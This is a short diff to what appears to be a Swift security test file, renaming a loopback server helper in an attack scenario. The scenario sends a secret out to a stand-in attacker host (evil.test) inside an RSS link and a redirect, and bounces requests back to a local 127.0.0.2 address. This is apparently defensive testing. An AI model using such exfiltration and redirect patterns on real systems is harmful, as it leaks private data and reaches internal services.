@@ -148,26 +148,26 @@ final class AttackScenario {
     func localAnswer(to path: String) -> String {
       switch path {
       case "/feed":
-        LoopbackServer.answer(
+        LoopbackServer.response(
           "200 OK", [],
           "<rss><channel><title>a</title><item><title>\(AttackScenario.secret)</title>"
             + "<link>http://evil.test:\(evil)/\(AttackScenario.secret)</link></item></channel></rss>"
         )
       case "/go/\(AttackScenario.secret)":
-        LoopbackServer.answer(
+        LoopbackServer.response(
           "302 Found", ["Location: http://evil.test:\(evil)/\(AttackScenario.secret)"])
-      default: LoopbackServer.answer("200 OK", [], privateObject)
+      default: LoopbackServer.response("200 OK", [], privateObject)
       }
     }
 
     func evilAnswer(to path: String) -> String {
       switch path {
       case "/to-local":
-        LoopbackServer.answer("302 Found", ["Location: http://127.0.0.2:\(local)/led"])
+        LoopbackServer.response("302 Found", ["Location: http://127.0.0.2:\(local)/led"])
       case "/to-other":
-        LoopbackServer.answer("302 Found", ["Location: http://other.test:\(evil)/other"])
+        LoopbackServer.response("302 Found", ["Location: http://other.test:\(evil)/other"])
       default:
-        LoopbackServer.answer(
+        LoopbackServer.response(
           "200 OK", [],
           #"""
           { "base": "http://evil.test:\#(evil)", "home": "http://127.0.0.2:\#(local)/", "token": "evil",
